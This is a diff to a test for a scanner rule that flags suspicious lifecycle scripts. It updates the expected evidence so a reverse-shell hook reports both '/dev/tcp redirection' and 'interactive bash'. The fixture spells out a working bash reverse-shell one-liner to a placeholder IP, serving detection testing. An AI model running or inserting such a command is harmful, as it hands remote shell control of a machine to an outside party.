@@ -69,10 +69,10 @@ describe('lifecycle-script-suspicious', () => {
     expect(f?.evidence).toEqual({
       hook: 'OnStart',
       line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
-      indicators: ['reverse shell: /dev/tcp redirection'],
+      indicators: ['reverse shell: /dev/tcp redirection', 'reverse shell: interactive bash'],
       matchingLines: ['OnStart: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
     });
-    expect(f?.reason).toBe('OnStart script: reverse shell: /dev/tcp redirection: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
+    expect(f?.reason).toBe('OnStart script: reverse shell: /dev/tcp redirection; reverse shell: interactive bash: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');
   });
 
   it.each([
